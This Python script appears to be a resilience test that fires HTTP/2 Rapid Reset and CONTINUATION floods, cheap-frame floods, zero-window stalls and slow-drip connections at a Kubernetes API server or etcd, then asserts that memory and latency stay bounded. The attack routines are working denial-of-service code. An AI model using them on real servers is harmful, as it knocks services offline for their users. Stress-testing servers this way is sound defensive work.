"""A client that keeps to no rules: HTTP/2 frame by frame, and connections that hardly do anything.

Run as `attacks.py KIND ADDRESS PID [CERTIFICATE]`: an API server's (`api`) or a datastore's (`etcd`) port, and the process whose
memory is looked at. Prints one line of JSON for each attack, and `ok` when the server has stood them all."""

import contextlib
import json
import socket
import ssl
import struct
import sys
import threading
import time

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
# For what the server tells to be over.
CLOSED = (ConnectionError, ssl.SSLError, TimeoutError, EOFError)


class Target:
    def __init__(self, kind, address, pid, certificate=None):
        self.kind, self.pid, self.certificate = kind, pid, certificate
        host, port = address.rsplit(":", 1)
        self.address = (host, int(port))

    def connect(self, protocol="h2"):
        raw = socket.create_connection(self.address, timeout=20)
        if not self.certificate:
            return raw
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.load_cert_chain(self.certificate)
        context.set_alpn_protocols([protocol])
        return context.wrap_socket(raw)

    def memory(self):
        """What the server has in memory, in MB."""
        with open(f"/proc/{self.pid}/status") as f:
            return next(int(line.split()[1]) for line in f if line.startswith("VmRSS")) / 1024

    def request(self):
        """The headers of a request for a lot, and its body."""
        if self.kind == "api":
            return [(":method", "GET"), (":path", "/api/v1/configmaps")], b""
        return grpc("/etcdserverpb.KV/Range", text(1, b"\0") + text(2, b"\0"))

    def small(self):
        if self.kind == "api":
            return [(":method", "GET"), (":path", "/version")], b""
        return grpc("/etcdserverpb.Maintenance/Status", b"")

    def put(self, n, size):
        if self.kind == "api":
            value = {"metadata": {"name": f"attack-{n}"}, "data": {"text": "x" * size}}
            path = "/api/v1/namespaces/default/configmaps"
            return [(":method", "POST"), (":path", path), ("content-type", "application/json")], json.dumps(value).encode()
        return grpc("/etcdserverpb.KV/Put", text(1, b"attack-%d" % n) + text(2, b"x" * size))


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def text(field, value):
    """A field of a protobuf message."""
    return varint(field << 3 | 2) + varint(len(value)) + value


def grpc(path, message):
    headers = [(":method", "POST"), (":path", path), ("content-type", "application/grpc"), ("te", "trailers")]
    return headers, b"\0" + struct.pack(">I", len(message)) + message


def packed(headers):
    """As HPACK's literals, which nobody has to remember."""
    out = b""
    for pair in headers:
        out += b"\0"
        for part in pair:
            part = part.encode()
            # A length of seven bits, and the rest as many bytes as it needs.
            out += (bytes([len(part)]) if len(part) < 127 else b"\x7f" + varint(len(part) - 127)) + part
    return out


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Http2:
    """A connection whose server may send as much on a stream as `window` says."""

    def __init__(self, target, window=65535):
        self.target, self.socket, self.next = target, target.connect(), 1
        self.scheme = [(":scheme", "https" if target.certificate else "http"), (":authority", "localhost")]
        settings = struct.pack(">HI", INITIAL_WINDOW_SIZE, window)
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        self.socket.sendall(data)

    def opening(self, request):
        """The frames of a request, and its stream."""
        (headers, body), stream = request, self.next
        self.next += 2
        block, end = packed(headers[:2] + self.scheme + headers[2:]), 0 if body else END_STREAM
        frames = frame(HEADERS, END_HEADERS | end, stream, block)
        parts = [body[i : i + 16384] for i in range(0, len(body), 16384)]
        for i, part in enumerate(parts):
            frames += frame(DATA, END_STREAM if i == len(parts) - 1 else 0, stream, part)
        return frames, stream

    def open(self, request):
        frames, stream = self.opening(request)
        self.send(frames)
        return stream

    def exactly(self, size):
        data = b""
        while len(data) < size:
            more = self.socket.recv(size - len(data))
            if not more:
                raise EOFError("the server has closed the connection")
            data += more
        return data

    def read(self):
        """The next frame."""
        head = self.exactly(9)
        length, kind, flags = int.from_bytes(head[:3], "big"), head[3], head[4]
        payload = self.exactly(length)
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        return kind, flags, int.from_bytes(head[5:], "big"), payload

    def finish(self, stream):
        """Reads until this stream ends; the windows stay open. False: the stream was reset."""
        while True:
            kind, flags, which, payload = self.read()
            if kind == DATA and payload:
                grown = struct.pack(">I", len(payload))
                self.send(frame(WINDOW_UPDATE, 0, 0, grown) + (frame(WINDOW_UPDATE, 0, which, grown) if which == stream else b""))
            if which == stream and kind == RST_STREAM:
                return False
            if which == stream and kind in (DATA, HEADERS) and flags & END_STREAM:
                return True

    def end(self):
        """Reads until the server ends the connection, and what it said of it."""
        said = None
        with contextlib.suppress(*CLOSED):
            while True:
                kind, _, _, payload = self.read()
                if kind == GOAWAY:
                    said = int.from_bytes(payload[4:8], "big")
        return said


class Watched:
    """Somebody who keeps to the rules meanwhile, and the server's memory."""

    def __init__(self, target, name, most):
        self.target, self.name, self.most, self.over = target, name, most, threading.Event()
        self.slowest, self.memory, self.failure = 0, 0, None

    def look(self):
        while not self.over.wait(0.1):
            try:
                began = time.monotonic()
                other = Http2(self.target)
                assert other.finish(other.open(self.target.small())), "refused"
                other.socket.close()
                self.slowest = max(self.slowest, time.monotonic() - began)
                self.memory = max(self.memory, self.target.memory())
            except Exception as e:  # noqa: BLE001
                self.failure = self.failure or repr(e)

    def __enter__(self):
        self.before, self.began = self.target.memory(), time.monotonic()
        self.thread = threading.Thread(target=self.look)
        self.thread.start()
        return self

    def __exit__(self, kind, *_):
        time.sleep(0.2)
        self.over.set()
        self.thread.join()
        if kind:
            return
        grown = round(self.memory - self.before, 1)
        told = {"attack": self.name, "grown_mb": grown, "slowest_s": round(self.slowest, 2), "took_s": round(time.monotonic() - self.began, 1)}
        print(json.dumps(told), flush=True)
        assert not self.failure, f"{self.name}: {self.failure}"
        assert self.slowest < 5, f"{self.name}: somebody else waited for {self.slowest} s"
        assert grown < self.most, f"{self.name}: {grown} MB more"


def pour(connection, data, times):
    """Sends the same again and again until the server has had enough; how often that was."""
    sent, reader = 0, threading.Thread(target=connection.end, daemon=True)
    reader.start()
    with contextlib.suppress(*CLOSED):
        for sent in range(times):
            connection.send(data)
    return sent


def rapid_reset(target):
    """CVE-2023-44487: requests that are taken back at once."""
    with Watched(target, "rapid reset", 64):
        connection, sent = Http2(target), 0
        threading.Thread(target=connection.end, daemon=True).start()
        with contextlib.suppress(*CLOSED):
            for sent in range(0, 20_000, 50):
                batch = b""
                for _ in range(50):
                    frames, stream = connection.opening(target.request())
                    batch += frames + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                connection.send(batch)
        connection.socket.close()


def continuation(target):
    """CVE-2024-27316: a head without an end."""
    with Watched(target, "continuation", 32):
        connection = Http2(target)
        block = packed(target.small()[0][:2] + connection.scheme)
        connection.send(frame(HEADERS, END_STREAM, 1, block))
        field = packed([("x", "y" * 16000)])
        sent = pour(connection, frame(CONTINUATION, 0, 1, field), 4000)
        assert sent < 1000, f"{sent} frames of 16 kB were taken"


def floods(target):
    """Frames that cost their sender nothing, of a client that reads no answer."""
    # The body of a request: from then on the server waits for it.
    (headers, _), stream = target.put(0, 10), 1
    for name, data in (
        ("settings", frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 65535)) * 100),
        ("ping", frame(PING, 0, 0, b"12345678") * 100),
        ("empty data", frame(DATA, 0, stream) * 100),
        ("window updates", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100),
    ):
        with Watched(target, f"flood of {name}", 32):
            connection = Http2(target)
            connection.send(frame(HEADERS, END_HEADERS, stream, packed(headers[:2] + connection.scheme + headers[2:])))
            connection.socket.settimeout(2)
            with contextlib.suppress(*CLOSED):
                for _ in range(2000):
                    connection.send(data)
            connection.socket.close()


def shut_windows(target, patience, most):
    """Large answers that nobody takes, and one that is taken on the same connection."""
    with Watched(target, "shut windows", most):
        for window in (0, 1):
            connection = Http2(target, window)
            streams = {connection.open(target.request()) for _ in range(100)}
            began = time.monotonic()
            read = connection.open(target.small())
            connection.send(frame(WINDOW_UPDATE, 0, read, struct.pack(">I", 1 << 20)))
            assert connection.finish(read), "the small answer was refused"
            assert time.monotonic() - began < 5
            if patience:
                while streams:
                    kind, _, which, _ = connection.read()
                    if kind == RST_STREAM:
                        streams.discard(which)
                took = time.monotonic() - began
                assert took < patience + 5, f"the last stream was reset after {took} s"
            else:
                # It has no deadlines, as etcd: what it makes of all of them is looked at.
                time.sleep(2)
            connection.socket.close()


def unread_watch(target):
    """A watch whose client takes nothing, while much changes."""
    with Watched(target, "unread watch", 96):
        watchers, writer = [], Http2(target)
        for _ in range(10):
            connection = Http2(target, 0)
            watch = [(":method", "GET"), (":path", "/api/v1/configmaps?watch=1")], b""
            connection.open(watch)
            watchers.append(connection)
        for n in range(1000, 1100):
            assert writer.finish(writer.open(target.put(n, 10_000)))


def slow(target, protocol, data, rest, most):
    """A connection that sends a byte now and then; how long the server listens."""
    connection = target.connect(protocol)
    connection.sendall(data)
    connection.settimeout(1)
    began, answer = time.monotonic(), b""
    with contextlib.suppress(ConnectionError, ssl.SSLError, EOFError):
        while time.monotonic() - began < most:
            try:
                more = connection.recv(65536)
            except TimeoutError:
                connection.sendall(rest)
                continue
            if not more:
                break
            answer += more
    return time.monotonic() - began, answer


def loiterers(target, patience):
    """Threads that see how long the server waits for each sort of client that does not get on."""
    head = b"POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
    sorts = [
        ("says nothing over HTTP/1", 20, ("http/1.1", b"", b""), 32),
        ("says nothing over HTTP/2", 20, ("h2", b"", b""), 10),
        ("a head that drips", 20, ("http/1.1", b"GET / HTTP/1.1\r\nHost: ", b"x"), 32),
        ("a body that drips", 20, ("http/1.1", head + b"Content-Length: 1000\r\n\r\n", b" "), patience),
    ]
    if target.kind != "api":
        sorts = [("says nothing", 50, ("h2", b"", b""), 30), ("begins HTTP/2", 50, ("h2", b"PRI * HTTP/2.0\r\n", b""), 30)]
    told, threads = {}, []
    for name, count, arguments, most in sorts:
        for _ in range(count):
            def wait(name=name, arguments=arguments, most=most):
                told.setdefault(name, []).append((most, *slow(target, *arguments, most + 8)))

            threads.append(threading.Thread(target=wait))
            threads[-1].start()
    return told, threads


def main():
    kind, address, pid, *more = sys.argv[1:]
    target = Target(kind, address, int(pid), *more)
    patience = 6 if kind == "api" else None
    filler = Http2(target)
    for n in range(1, 200 if kind == "api" else 40):
        assert filler.finish(filler.open(target.put(n, 50_000)))
    told, threads = loiterers(target, patience)
    rapid_reset(target)
    continuation(target)
    floods(target)
    # What a list of the API is made of is made while it is sent; an answer of the datastore is one message.
    shut_windows(target, patience, 64 if kind == "api" else 512)
    if kind == "api":
        unread_watch(target)
    with Watched(target, "loiterers", 64):
        for thread in threads:
            thread.join()
    for name, all_of_it in told.items():
        for most, took, answer in all_of_it:
            assert took < most + 4, f"{name}: {took} s"
            if name == "a body that drips":
                assert b" 504 " in answer.split(b"\r\n")[0], answer[:200]
    print("ok")


if __name__ == "__main__":
    main()
